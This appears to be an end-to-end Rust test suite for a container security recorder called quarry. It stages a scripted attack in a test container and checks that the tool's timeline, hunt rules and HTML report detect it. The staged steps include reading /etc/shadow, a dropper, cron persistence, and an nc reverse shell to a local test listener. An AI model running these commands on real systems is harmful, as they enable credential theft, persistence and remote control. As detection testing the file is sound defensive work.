//! End to end: a scripted attack inside a real runc container is recorded by the real
//! recorder; `quarry timeline` tells its steps in order, `quarry hunt` raises the matching
//! findings, a benign container next to it raises none, and the HTML report renders in
//! headless Chromium.

// A test fails by panicking: unwrap is how it says what went wrong.
#![allow(clippy::unwrap_used)]

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::time::Duration;

use common::containers::{RuncContainer, TestNet};
use common::{RecorderProcess, quarry, require_root};
use nix::sys::signal::Signal;

fn json(store: &Path, args: &[&str]) -> (i32, serde_json::Value) {
    let out = quarry()
        .args(args)
        .arg("--store")
        .arg(store)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let code = out.status.code().unwrap_or(-1);
    let value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{args:?}: {e}; stdout {} stderr {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (code, value)
}

#[test]
fn recorded_attack_is_told_in_order_and_hunted() {
    if !require_root() {
        return;
    }
    let pid = std::process::id();
    let net = TestNet::new("q");
    let attacked = format!("qt-attack-{pid}");
    let benign = format!("qt-benign-{pid}");
    let victim = RuncContainer::start_tweaked(&attacked, Some(&net.netns), |config, rootfs| {
        config["root"]["readonly"] = false.into();
        std::fs::write(
            rootfs.join("etc/shadow"),
            "root:$6$salt$hash:19000:0:99999:7:::\n",
        )
        .unwrap();
    });
    let quiet = RuncContainer::start_tweaked(&benign, None, |config, _| {
        config["root"]["readonly"] = false.into();
    });

    // The attacker's listener: on the host end of the container's own test veth.
    let listener = TcpListener::bind((net.host.as_str(), 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let catcher = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        conn.write_all(b"echo owned-by-test\nexit\n").unwrap();
        let mut answer = String::new();
        let _ = conn.read_to_string(&mut answer);
        answer
    });

    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let rec = RecorderProcess::start(&store, &["--seal-interval", "1s"]);

    // Benign work in the other container: no shells, no writes outside /tmp.
    quiet.exec(&["/bin/ls", "/tmp"]);
    quiet.exec(&["/bin/cat", "/proc/self/status"]);

    // The attack, one step at a time so each is a distinct moment.
    let steps: &[&[&str]] = &[
        &["/bin/sh", "-c", "/bin/cat /etc/shadow > /dev/null"],
        &[
            "/bin/sh",
            "-c",
            "/bin/cp /bin/busybox /tmp/dropper; /tmp/dropper true",
        ],
        &[
            "/bin/sh",
            "-c",
            "/bin/mkdir -p /etc/crontabs; echo '* * * * * /tmp/dropper' > /etc/crontabs/root",
        ],
        &["/bin/unshare", "-m", "/bin/true"],
    ];
    for step in steps {
        victim.exec(step);
        std::thread::sleep(Duration::from_millis(50));
    }
    let reverse = format!("/bin/nc {} {port} -e /bin/sh", net.host);
    victim.exec(&["/bin/sh", "-c", &reverse]);
    let answer = catcher.join().unwrap();
    assert!(
        answer.contains("owned-by-test"),
        "the reverse shell answered: {answer:?}"
    );
    quiet.exec(&["/bin/ls", "/"]);

    let out = rec.stop_with(Signal::SIGINT);
    assert!(out.status.success(), "{out:?}");

    // The timeline tells the attack in order.
    let (code, timeline) = json(&store, &["timeline", &attacked]);
    assert_eq!(code, 0, "{timeline}");
    let events = timeline["events"].as_array().unwrap();
    let position = |what: &dyn Fn(&serde_json::Value) -> bool, name: &str| {
        events
            .iter()
            .position(what)
            .unwrap_or_else(|| panic!("timeline has no {name}: {timeline:#}"))
    };
    let summary = |e: &serde_json::Value, needle: &str| {
        e["summary"].as_str().unwrap_or_default().contains(needle)
    };
    let read_shadow = position(
        &|e| e["source"] == "file" && summary(e, "open /etc/shadow"),
        "read of /etc/shadow",
    );
    let dropped = position(
        &|e| e["source"] == "file" && summary(e, "/tmp/dropper"),
        "write of /tmp/dropper",
    );
    let ran_dropped = position(
        &|e| e["event"] == "exec" && summary(e, "exec /tmp/dropper"),
        "exec of /tmp/dropper",
    );
    let cron = position(
        &|e| e["source"] == "file" && summary(e, "/etc/crontabs/root"),
        "cron write",
    );
    let unshare = position(&|e| e["event"] == "unshare", "unshare");
    let connect = position(
        &|e| e["source"] == "net" && e["event"] == "connect" && summary(e, &net.host),
        "connect to the listener",
    );
    assert!(
        read_shadow < dropped
            && dropped < ran_dropped
            && ran_dropped < cron
            && cron < unshare
            && unshare < connect,
        "steps out of order: {read_shadow} {dropped} {ran_dropped} {cron} {unshare} {connect}"
    );
    // The benign container's steps are not in this story.
    assert!(!events.iter().any(|e| summary(e, "/bin/ls")));
    // The process tree has the attack's shells.
    let tree = timeline["processes"].to_string();
    assert!(
        tree.contains("/tmp/dropper") && tree.contains("/bin/cat"),
        "{tree}"
    );

    // The hunt raises the matching findings, each pointing at its row.
    let (code, findings) = json(&store, &["hunt", "--container", &attacked]);
    assert_eq!(code, 4, "findings exit with 4: {findings:#}");
    let rules: std::collections::BTreeSet<&str> = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for (rule, what) in [
        ("QH001", "shell spawned"),
        ("QH002", "drift"),
        ("QH003", "reverse shell"),
        ("QH004", "sensitive read"),
        ("QH005", "write below /etc"),
        ("QH006", "persistence"),
        ("QH008", "escape signal"),
        ("QH009", "network tool"),
    ] {
        assert!(rules.contains(rule), "no {rule} ({what}) in {findings:#}");
    }
    for f in findings.as_array().unwrap() {
        assert!(
            f["source_table"].is_string() && f["ktime_ns"].is_u64(),
            "{f}"
        );
        assert_eq!(f["container_id"], attacked.as_str());
    }

    // Nothing on the benign container.
    let (code, findings) = json(&store, &["hunt", "--container", &benign]);
    assert_eq!(code, 0, "benign workload raised findings: {findings:#}");
    assert_eq!(findings.as_array().unwrap().len(), 0);

    // The HTML report: one file that a browser renders with the steps.
    let html = dir.path().join("timeline.html");
    let out = quarry()
        .args(["timeline", &attacked, "--format", "html", "-o"])
        .arg(&html)
        .arg("--store")
        .arg(&store)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        !page.contains("src=\"http") && !page.contains("href=\"http"),
        "no fetches"
    );
    let dom = render_in_chromium(&html);
    assert!(
        dom.contains("data-rendered=\"yes\""),
        "the page's script ran"
    );
    for needle in [
        "/etc/shadow",
        "/tmp/dropper",
        "/etc/crontabs/root",
        "unshare",
    ] {
        assert!(dom.contains(needle), "rendered page lacks {needle}");
    }
    // Never overwrite: a second run to the same file is refused.
    let out = quarry()
        .args(["timeline", &attacked, "--format", "html", "-o"])
        .arg(&html)
        .arg("--store")
        .arg(&store)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("must not exist"));
}

/// The DOM after scripts ran, from Debian's headless Chromium.
fn render_in_chromium(page: &Path) -> String {
    let profile = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-dev-shm-usage",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", page.display()))
        .output()
        .expect("chromium (scripts/setup installs it)");
    assert!(out.status.success(), "chromium: {out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("Uncaught"), "script errors: {stderr}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn sql_refuses_writes_and_reads_a_recorded_store() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let marker = common::marker("sql");
    let rec = RecorderProcess::start(&store, &["--seal-interval", "1s"]);
    // A shell that forks (the `; exit` keeps it from exec'ing in place) so the marker's
    // process has a recorded parent.
    std::process::Command::new("/bin/sh")
        .args(["-c", &format!("/bin/true {marker}; exit 0")])
        .status()
        .unwrap();
    let out = rec.stop_with(Signal::SIGINT);
    assert!(out.status.success(), "{out:?}");

    let query = format!(
        "SELECT pid, image, parent_image FROM processes \
         WHERE image = '/bin/true' AND array_to_string(argv, ' ') LIKE '%{marker}%'"
    );
    let (code, rows) = json(&store, &["sql", &query]);
    assert_eq!(code, 0);
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["image"], "/bin/true");
    assert_eq!(rows[0]["parent_image"], "/bin/sh", "lineage: {rows:?}");

    for refused in [
        "COPY (SELECT * FROM process) TO '/tmp/quarry-e2e-copy.csv'",
        "CREATE EXTERNAL TABLE p STORED AS CSV LOCATION '/etc/passwd'",
        "DROP TABLE process",
    ] {
        let out = quarry()
            .args(["sql", refused, "--store"])
            .arg(&store)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{refused}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("read-only"), "{refused}: {stderr}");
    }
    assert!(!Path::new("/tmp/quarry-e2e-copy.csv").exists());

    let out = quarry()
        .args(["sql", "SELEC nonsense", "--store"])
        .arg(&store)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not valid SQL"));
}
